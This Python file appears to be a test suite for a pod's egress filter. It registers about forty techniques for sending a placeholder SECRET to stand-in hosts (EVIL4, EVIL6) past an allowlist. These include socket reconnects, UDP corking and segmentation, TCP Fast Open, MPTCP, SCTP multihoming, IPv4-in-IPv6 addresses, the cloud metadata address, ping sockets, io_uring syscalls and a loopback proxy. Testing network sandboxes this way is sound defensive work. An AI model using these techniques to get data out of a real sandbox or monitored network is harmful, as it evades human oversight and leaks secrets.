"""Ordinary sockets, without any capability."""

import array
import ctypes
import mmap
import os
import socket
import struct
import threading
import time

from attack import *

LIBC = ctypes.CDLL(None, use_errno=True)
MSG_FASTOPEN, MSG_MORE = 0x20000000, 0x8000
UDP_SEGMENT = 103


def disconnect(s):
    """connect(2) with AF_UNSPEC, which Python cannot say."""
    if LIBC.connect(s.fileno(), b"\0" * 16, 16) != 0:
        raise OSError(ctypes.get_errno(), "connect to AF_UNSPEC")


@way()
def tcp_connect():
    """Connects, over IPv4 and IPv6."""
    attempt(lambda: tcp(EVIL4), lambda: tcp(EVIL6), lambda: tcp(EVIL4, 443), lambda: tcp(WEB4, 443))


@way()
def udp_sendto():
    """Sends datagrams, over IPv4 and IPv6."""
    attempt(lambda: udp(EVIL4), lambda: udp(EVIL6), lambda: udp(WEB4, 8000))


@way()
def other_port():
    """Uses the one allowed port of a destination as the source port to another of its ports."""
    attempt(lambda: tcp(WEB4, 443, bind=("0.0.0.0", 80)), lambda: tcp(WEB6, 443, bind=("::", 80)))


@way()
def udp_connected_to_another():
    """Connects a UDP socket to where it may, and sends elsewhere with sendto and sendmsg."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((ALLOWED4, 123))
    s.send(b"hello")
    attempt(lambda: s.sendto(SECRET, (EVIL4, 123)), lambda: s.sendmsg([SECRET], [], 0, (EVIL4, 123)))


@way()
def udp_connected_again():
    """Connects a UDP socket to where it may, disconnects, and connects elsewhere."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((ALLOWED4, 123))
    s.send(b"hello")
    disconnect(s)
    s.connect((EVIL4, 123))
    s.send(SECRET)


@way()
def udp_corked():
    """Begins a datagram to where it may with MSG_MORE, and ends it elsewhere; and one elsewhere from the start."""
    for first, data in ((ALLOWED4, b"more"), (EVIL4, SECRET)):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"hello", MSG_MORE, (first, 123))
        attempt(lambda: s.sendto(data, (EVIL4, 123)))


@way()
def udp_segmented():
    """Hands over 40 datagrams as one of 40,000 bytes (UDP_SEGMENT)."""
    for family, address in ((socket.AF_INET, EVIL4), (socket.AF_INET6, EVIL6)):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, 1000)
        attempt(lambda: s.sendto((SECRET + b"." * 1000)[:1000] * 40, (address, 123)))


@way()
def udp_many_destinations():
    """Sends by turns where it may and where it may not, by one socket, so that the one opens for the other."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(50):
        attempt(lambda: s.sendto(b"hello", (ALLOWED4, 123)), lambda: s.sendto(SECRET, (EVIL4, 123)))


@way()
def udp_fragmented():
    """Sends a datagram that is longer than the interface's MTU."""
    attempt(lambda: udp(EVIL4, data=SECRET * 300), lambda: udp(EVIL6, data=SECRET * 300))


@way()
def udp_source_of_a_packet():
    """Chooses the next hop of a datagram, and its source, by ancillary data (IP_PKTINFO)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    info = struct.pack("@i4s4s", socket.if_nametoindex("eth0"), socket.inet_aton(POD4), socket.inet_aton(ALLOWED4))
    s.sendmsg([SECRET], [(socket.IPPROTO_IP, 8, info)], 0, (EVIL4, 123))


@way()
def tcp_fast_open():
    """Sends data in the SYN, without connect(2)."""
    for family, address in ((socket.AF_INET, EVIL4), (socket.AF_INET6, EVIL6)):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(TIMEOUT)
        attempt(lambda: s.sendto(SECRET, MSG_FASTOPEN, (address, 80)))


@way()
def tcp_connected_again():
    """Disconnects a TCP socket that was allowed, and connects it elsewhere."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(TIMEOUT)
    s.connect((ALLOWED4, 80))
    s.send(b"hello")
    s.recv(100)
    disconnect(s)
    s.connect((EVIL4, 80))
    s.send(SECRET)


@way()
def tcp_of_a_listener():
    """Listens on the port that it connects from, and on the one that it connects to, so that the connection
    seems to be one that came in, or one to the pod itself."""
    listeners = []
    for port in (443, 7080):
        listener = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        listener.bind(("::", port))
        listener.listen()
        listeners.append(listener)
    for family, address in ((socket.AF_INET, EVIL4), (socket.AF_INET6, EVIL6)):
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(TIMEOUT)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        s.bind(("", 7080))
        attempt(lambda: s.connect((address, 443)))
        attempt(lambda: s.send(SECRET))


@way()
def tcp_both_at_once():
    """Two sockets connect to each other's port through the far end's address (simultaneous open)."""
    def one(mine, its):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(TIMEOUT)
        s.bind(("", mine))
        attempt(lambda: s.connect((EVIL4, its)))
    threads = [threading.Thread(target=one, args=pair) for pair in ((7001, 7002), (7002, 7001))]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]


@way()
def mptcp():
    """Multipath TCP, whose subflows the kernel opens."""
    for family, address in ((socket.AF_INET, EVIL4), (socket.AF_INET6, EVIL6)):
        s = socket.socket(family, socket.SOCK_STREAM, 262)
        s.settimeout(TIMEOUT)
        attempt(lambda: s.connect((address, 80)), lambda: s.send(SECRET))


@way()
def mptcp_fast_open():
    """Multipath TCP with data in its SYN."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    s.settimeout(TIMEOUT)
    s.sendto(SECRET, MSG_FASTOPEN, (EVIL4, 80))


@way()
def sctp():
    """SCTP, connected and not."""
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_SCTP)
        s.settimeout(TIMEOUT)
        attempt(lambda: s.sendto(SECRET, (EVIL4, 80)), lambda: s.connect((EVIL4, 80)))


@way()
def sctp_multihoming():
    """An SCTP association to an allowed address that has another one as its second (sctp_connectx, RFC 6458)."""
    def address(of):
        return struct.pack("=H", socket.AF_INET) + struct.pack("!H", 80) + socket.inet_aton(of) + b"\0" * 8
    for order in ((ALLOWED4, EVIL4), (EVIL4, ALLOWED4)):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP)
        s.settimeout(2.5)
        s.setsockopt(132, 0, struct.pack("=iIII", 0, 100, 100, 100))
        attempt(lambda: s.setsockopt(132, 110, b"".join(address(of) for of in order)))


@way()
def dccp():
    """DCCP (removed from Linux in 6.16)."""
    s = socket.socket(socket.AF_INET, 6, 33)
    s.setsockopt(269, 2, struct.pack("!I", 42))
    s.settimeout(TIMEOUT)
    s.connect((EVIL4, 80))


@way()
def udplite():
    """UDP-Lite (RFC 3828), protocol 136."""
    for family, address in ((socket.AF_INET, EVIL4), (socket.AF_INET6, EVIL6)):
        s = socket.socket(family, socket.SOCK_DGRAM, 136)
        attempt(lambda: s.sendto(SECRET, (address, 123)))


@way()
def mapped():
    """IPv4 through IPv6 sockets (::ffff:0:0/96)."""
    attempt(lambda: tcp("::ffff:" + EVIL4), lambda: udp("::ffff:" + EVIL4))


@way()
def embedded():
    """Addresses with an IPv4 one in them: 6to4, NAT64, IPv4-compatible, ISATAP."""
    four = socket.inet_aton(EVIL4)
    forms = [b"\x20\x02" + four + b"\0" * 9 + b"\1", bytes.fromhex("0064ff9b") + b"\0" * 8 + four,
             b"\0" * 12 + four, bytes.fromhex("20010db800180bad00005efe") + four]
    for form in forms:
        address = socket.inet_ntop(socket.AF_INET6, form)
        attempt(lambda: udp(address), lambda: tcp(address))


@way()
def flow_label():
    """IPv6 with a flow label of the sender's choice."""
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    attempt(lambda: s.setsockopt(socket.IPPROTO_IPV6, 33, 1))
    s.sendto(SECRET, (EVIL6, 123, 0xbad, 0))


@way()
def broadcast():
    """To everybody on the link, by both broadcast addresses."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    attempt(lambda: s.sendto(SECRET, ("255.255.255.255", 123)), lambda: s.sendto(SECRET, ("10.77.0.255", 123)))


@way()
def multicast():
    """To groups on the link."""
    attempt(lambda: udp("224.0.0.251", 5353), lambda: udp("239.1.2.3", 5000))
    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    scope = socket.if_nametoindex("eth0")
    attempt(lambda: six.sendto(SECRET, ("ff02::fb", 5353, 0, scope)))
    attempt(lambda: six.sendto(SECRET, ("ff05::1:3", 547, 0, scope)))


@way()
def neighbours():
    """To the gateway itself and others on the link, by their addresses and link-local ones."""
    attempt(lambda: udp(GATEWAY4), lambda: udp(GATEWAY6), lambda: tcp(GATEWAY4), lambda: udp("10.77.0.77"))
    six = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    attempt(lambda: six.sendto(SECRET, ("fe80::77", 123, 0, socket.if_nametoindex("eth0"))))
    attempt(lambda: udp("169.254.169.254", 80))


@way()
def ping_socket():
    """Echo requests with the secret in them, by the socket that needs no capability."""
    for family, protocol, kind, address in ((socket.AF_INET, 1, 8, EVIL4), (socket.AF_INET6, 58, 128, EVIL6)):
        s = socket.socket(family, socket.SOCK_DGRAM, protocol)
        attempt(lambda: s.sendto(struct.pack("!BBHHH", kind, 0, 0, 0, 1) + SECRET, (address, 0)))


@way()
def sent_from_a_file():
    """sendfile(2) and splice(2) into a connected socket."""
    with open("/tmp/secret" + EVIL4, "w+b") as file:
        os.unlink(file.name)
        file.write(SECRET)
        file.flush()
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.connect((EVIL4, 123))
        attempt(lambda: os.sendfile(s.fileno(), file.fileno(), 0, len(SECRET)))
        readable, writable = os.pipe()
        os.write(writable, SECRET)
        attempt(lambda: os.splice(readable, s.fileno(), len(SECRET)))


@way()
def zero_copy():
    """MSG_ZEROCOPY."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, 60, 1)
    s.sendto(SECRET, 0x4000000, (EVIL4, 123))


@way()
def io_uring():
    """io_uring's connect and send (its system calls are 425 and 426)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", 123)
                                          + socket.inet_aton(EVIL4) + b"\0" * 8, 16)
    secret = ctypes.create_string_buffer(SECRET, len(SECRET))
    parameters = ctypes.create_string_buffer(120)
    ring = LIBC.syscall(425, 4, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    # struct io_sqring_offsets at 40 of struct io_uring_params: head, tail, mask, entries, flags, dropped, array.
    _, tail, _, _, _, _, array_at = struct.unpack_from("=7I", parameters.raw, 40)
    entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
    queue = mmap.mmap(ring, array_at + 16, offset=0)
    # struct io_uring_sqe: IORING_OP_CONNECT is 16 with the address's length as its offset, IORING_OP_SEND 26.
    for index, (opcode, offset, pointer, length) in enumerate((
            (16, 16, ctypes.addressof(address), 0), (26, 0, ctypes.addressof(secret), len(SECRET)))):
        entries[index * 64:index * 64 + 64] = struct.pack(
            "=BBHiQQI36x", opcode, 4 if index == 0 else 0, 0, s.fileno(), offset, pointer, length)
        struct.pack_into("=I", queue, array_at + 4 * index, index)
    struct.pack_into("=I", queue, tail, 2)
    if LIBC.syscall(426, ring, 2, 2, 1, None, 0) < 0:
        raise OSError(ctypes.get_errno(), "io_uring_enter")


@way()
def proxy_on_loopback():
    """A proxy on 127.0.0.1, which is always free, that takes the bytes elsewhere."""
    listener = socket.create_server(("127.0.0.1", 3128))

    def proxy():
        client = listener.accept()[0]
        data = client.recv(1000)
        attempt(lambda: udp(EVIL4, data=data), lambda: tcp(EVIL4, data=data))
        client.close()

    thread = threading.Thread(target=proxy)
    thread.start()
    with socket.create_connection(("127.0.0.1", 3128)) as client:
        client.send(SECRET)
        client.recv(1)
    thread.join()
